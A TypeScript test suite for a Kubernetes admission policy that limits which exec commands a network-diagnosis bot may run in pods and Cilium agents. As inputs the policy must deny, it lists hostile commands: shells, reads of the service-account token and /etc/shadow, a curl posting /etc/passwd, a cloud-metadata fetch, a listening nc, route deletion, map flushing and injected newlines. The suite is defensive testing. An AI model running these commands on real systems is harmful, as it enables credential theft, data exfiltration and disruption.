// What the admission policy lets netwhy's account run: all that the bot sends, in every question at every tier, and nothing beside it.
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { loadAllYaml } from '@kubernetes/client-node';
import { beforeAll, describe, expect, it } from 'vitest';
import { execUrl } from '../../src/cluster/exec-request.ts';
import { CATALOGUE, variantsOf } from '../../src/commands/catalogue.ts';
import type { CommandCall } from '../../src/model/command-call.ts';
import { admission, type ExecAsked, type Policy, podExecOptions } from './admission.ts';
import { BOT, enforced } from './enforced.ts';
import { QUESTIONS } from './questions.ts';
import { HAS_KUBECTL, MANIFESTS, type Manifest, together } from './rendered.ts';

const FILE = path.join(MANIFESTS, 'components/exec-admission/policy.yaml');
const [policy, binding] = loadAllYaml(readFileSync(FILE, 'utf8')) as unknown as readonly [Policy, Manifest];
const refuses = admission(policy);

const AGENT = { namespace: 'netwhy', pod: 'netwhy-agent-x7k2p', container: 'agent' };
const CILIUM = { namespace: 'kube-system', pod: 'cilium-4xq9z', container: 'cilium-agent' };
const WEB = { namespace: 'shop', pod: 'web-0', container: 'web' };
const BATCH = '{"v":1,"run":"r-1","items":[]}';

/** As the bot's own code would send it. */
const sent = (place: typeof WEB, argv: readonly string[], user: string = BOT.user): ExecAsked => {
  const rest = { timeoutMs: 1, maxBytes: 1, signal: new AbortController().signal, userAgent: '' };
  const url = execUrl('https://kubernetes.default', { ...place, argv, ...rest });
  return { user, namespace: place.namespace, pod: place.pod, options: podExecOptions(url.searchParams) };
};

/** The demo's roles of tier B, for every namespace with pods. */
const ownTools = (): readonly Manifest[] => {
  const example = readFileSync(path.join(MANIFESTS, 'examples/exec-in-pods.yaml'), 'utf8');
  return ['shop', 'pay'].flatMap((namespace) => {
    return loadAllYaml(example.replaceAll('namespace: shop', `namespace: ${namespace}`)) as unknown as Manifest[];
  });
};

interface Sent {
  /** Programs by container. */
  readonly programs: ReadonlyMap<string, ReadonlySet<string>>;
  readonly refusals: readonly string[];
}

const askAll = async (overlay: readonly Manifest[]): Promise<Sent> => {
  const programs = new Map<string, Set<string>>();
  const refusals: string[] = [];
  const cluster = await enforced(overlay, ({ namespace, pod, query }) => {
    const options = podExecOptions(query);
    const why = refuses({ user: BOT.user, namespace, pod, options });
    const [first = '', , third = ''] = options.command;
    const container = options.container ?? '';
    programs.set(container, (programs.get(container) ?? new Set()).add(first === 'timeout' ? third : first));
    if (why !== null) refusals.push(`${namespace}/${pod}: ${options.command.join(' ')}: ${why}`);
    return why;
  });
  for (const words of QUESTIONS) await cluster.ask(words);
  await cluster.close();
  return { programs, refusals };
};

describe.skipIf(!HAS_KUBECTL)('every exec of every question is admitted', () => {
  let byAgents: Sent;
  let byOwnTools: Sent;
  beforeAll(async () => {
    [byAgents, byOwnTools] = await Promise.all([
      askAll(together('full', 'exec-admission')),
      askAll([...together('minimal', 'ask-cilium', 'exec-admission'), ...ownTools()]),
    ]);
  }, 180_000);

  it('at tiers A, C and D, where the agents enter pods', () => {
    expect(byAgents.refusals).toEqual([]);
    expect([...byAgents.programs.keys()].sort()).toEqual(['agent', 'cilium-agent', 'tailnet']);
    expect([...(byAgents.programs.get('agent') ?? [])]).toEqual(['netwhy']);
    expect([...(byAgents.programs.get('cilium-agent') ?? [])]).toEqual(
      expect.arrayContaining(['cilium-dbg', 'hubble']),
    );
  });

  it('at tiers A, B and D, where the tools of pods are used', () => {
    expect(byOwnTools.refusals).toEqual([]);
    expect([...(byOwnTools.programs.get('web') ?? [])].length).toBeGreaterThan(3);
  });
});

describe('what the catalogue may send to a container that is not ours', () => {
  const at = '10.0.0.1';
  const CALLS: readonly (readonly [place: 'pod' | 'cilium', call: CommandCall])[] = [
    ['pod', { name: 'ping', args: { to: at, count: 200, intervalMs: 2, waitMs: 100 } }],
    [
      'pod',
      {
        name: 'ping',
        args: { to: 'fd00::1', count: 3, intervalMs: 1000, waitMs: 5000, sizeBytes: 9000, dontFragment: true },
      },
    ],
    ['pod', { name: 'dns', args: { server: 'fd00::a', name: '_sip._tcp.Example.com.', timeoutMs: 5000, own: true } }],
    ['pod', { name: 'dns', args: { server: at, name: 'google.com', timeoutMs: 500, tcp: true } }],
    ['pod', { name: 'dns-system', args: { name: 'google.com.', timeoutMs: 5000 } }],
    ['pod', { name: 'http', args: { host: 'fd00::1', port: 65_535, timeoutMs: 10_000 } }],
    ['pod', { name: 'http', args: { host: 'ifconfig.me', timeoutMs: 500 } }],
    ['pod', { name: 'tcp-connect', args: { to: 'fd00::1', port: 443, timeoutMs: 10_000 } }],
    ['pod', { name: 'tcp-connect', args: { to: at, port: 1, timeoutMs: 500 } }],
    ['pod', { name: 'route-get', args: { to: at } }],
    ['pod', { name: 'route-list', args: { table: '52' } }],
    ['pod', { name: 'rule-list', args: {} }],
    ['pod', { name: 'link-list', args: {} }],
    ['pod', { name: 'link', args: { device: 'eth0@if7' } }],
    ['pod', { name: 'address', args: { device: 'eth0' } }],
    ['pod', { name: 'trace', args: { to: at, maxHops: 15 } }],
    ['pod', { name: 'tracepath', args: { to: at, maxHops: 15 } }],
    ['pod', { name: 'socket-list', args: { kind: 'tcp-listening' } }],
    ['pod', { name: 'read-file', args: { file: 'resolv-conf' } }],
    ['pod', { name: 'read-file', args: { file: 'snmp' } }],
    ['cilium', { name: 'cilium-endpoint', args: { namespace: 'shop', pod: 'web-0.a' } }],
    ['cilium', { name: 'cilium-bpf-policy', args: { endpoint: 65_535 } }],
    ['cilium', { name: 'cilium-health', args: { probe: true } }],
    ['cilium', { name: 'bpf-programs', args: { program: 'cil_to_overlay' } }],
    ['cilium', { name: 'hubble-drops', args: { namespace: 'shop', pod: 'web-0' } }],
    ...['drops', 'map-pressure', 'map-operations', 'errors', 'controllers', 'reachability', 'endpoints'].map(
      (which): readonly ['cilium', CommandCall] => ['cilium', { name: 'cilium-metrics-list', args: { which } }],
    ),
    // Every other question to Cilium's agent takes no argument.
    ...[...CATALOGUE.keys()]
      .filter((name) => /^(?:cilium-|bpf-|hubble-)/.test(name))
      .filter(
        (name) => !/^(?:cilium-(?:endpoint|bpf-policy|metrics|metrics-list)|bpf-programs|hubble-drops)$/.test(name),
      )
      .map((name): readonly ['cilium', CommandCall] => ['cilium', { name, args: {} }]),
  ];

  it.each(CALLS)('%s: %o', (place, call) => {
    const argvs = variantsOf(call, place === 'pod' ? 'pod-exec' : 'cilium-exec');
    expect(argvs.length).toBeGreaterThan(0);
    for (const argv of argvs) {
      const both = [argv, ['timeout', '12', ...argv]];
      expect(both.map((words) => [words, refuses(sent(place === 'pod' ? WEB : CILIUM, words))])).toEqual(
        both.map((words) => [words, null]),
      );
    }
  });
});

describe('what it refuses', () => {
  const [, looks] = policy.spec.validations.map(({ message }) => message);

  it.each([
    ['a shell in an agent', AGENT, ['sh']],
    ['a shell in a pod', WEB, ['/bin/sh', '-c', 'id']],
    ['a shell under the kill timer', WEB, ['timeout', '5', 'sh', '-c', 'id']],
    ['a shell in a Cilium agent', CILIUM, ['bash']],
    ['another program of the image', AGENT, ['netwhy', 'start']],
    ['more words behind the batch', AGENT, ['netwhy', 'probe', BATCH, '--x']],
    ['a batch that is none', AGENT, ['netwhy', 'probe', '--help']],
    ['the kill timer before the agent', AGENT, ['timeout', '5', 'netwhy', 'probe', BATCH]],
    ['the bot itself', { ...AGENT, pod: 'netwhy-7d9c-abcde' }, ['netwhy', 'probe', BATCH]],
    ['another container of an agent', { ...AGENT, container: 'debug' }, ['netwhy', 'probe', BATCH]],
    ['an agent elsewhere', { ...AGENT, namespace: 'shop' }, ['netwhy', 'probe', BATCH]],
    ['a look with an agent’s tools past the agent', AGENT, ['ip', '-j', 'rule', 'show']],
    ['what changes Cilium', CILIUM, ['cilium-dbg', 'endpoint', 'delete', 'cep-name:shop/web-0']],
    ['what empties a map', CILIUM, ['cilium-dbg', 'bpf', 'ct', 'flush', 'global']],
    ['Cilium’s agent asked elsewhere', { ...WEB, container: 'web' }, ['cilium-dbg', 'status', '-o', 'json']],
    ['another file', WEB, ['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token']],
    ['one more file', WEB, ['cat', '/etc/resolv.conf', '/etc/shadow']],
    ['a download that is kept', WEB, ['curl', '-sS', '-o', '/tmp/x', 'http://10.0.0.1:80/']],
    ['a request with a body', WEB, ['curl', '-d', '@/etc/passwd', 'http://10.0.0.1:80/']],
    [
      'a page by its path',
      WEB,
      ['wget', '-q', '-O-', '-T', '2', '-t', '1', 'http://169.254.169.254:80/opc/v2/instance/'],
    ],
    ['user and password in an address', WEB, ['wget', '-q', '-O-', '-T', '2', '-t', '1', 'http://a:b@10.0.0.1:80/']],
    ['a flag in place of a name', WEB, ['getent', 'ahostsv4', '-s']],
    ['a second line', WEB, ['getent', 'ahostsv4', 'a\nb']],
    ['two words in one', WEB, ['getent\tahostsv4', 'a']],
    ['a listening nc', WEB, ['nc', '-l', '-p', '80']],
    ['a route that changes', WEB, ['ip', 'route', 'del', 'default']],
  ])('%s', (_what, place, argv) => {
    expect(refuses(sent(place, argv))).toBe(looks);
  });

  it('stdin and a terminal, even for the agent’s own program', () => {
    const asked = sent(AGENT, ['netwhy', 'probe', BATCH]);
    expect(refuses(asked)).toBeNull();
    for (const more of [{ stdin: true }, { tty: true }] as const)
      expect(refuses({ ...asked, options: { ...asked.options, ...more } })).toBe(
        'netwhy never types into a container.',
      );
  });

  it('an exec that names no container, or no command', () => {
    const { container: _, ...options } = sent(AGENT, ['netwhy', 'probe', BATCH]).options;
    expect(refuses({ ...sent(AGENT, []), options })).toBe(looks);
    const { command: _none, ...empty } = sent(AGENT, []).options;
    expect(refuses({ ...sent(AGENT, []), options: empty as never })).toMatch(/cannot be evaluated/);
  });

  it('nobody else', () => {
    expect(refuses(sent(WEB, ['sh'], 'alice'))).toBeNull();
    expect(refuses(sent(WEB, ['sh'], 'system:serviceaccount:shop:netwhy'))).toBeNull();
  });
});

describe('the binding', () => {
  it('denies by this policy, everywhere', () => {
    expect(binding).toMatchObject({
      kind: 'ValidatingAdmissionPolicyBinding',
      spec: { policyName: policy.metadata.name, validationActions: ['Deny'] },
    });
    expect(policy.spec.failurePolicy).toBe('Fail');
    expect(binding.spec).not.toHaveProperty('matchResources');
  });
});
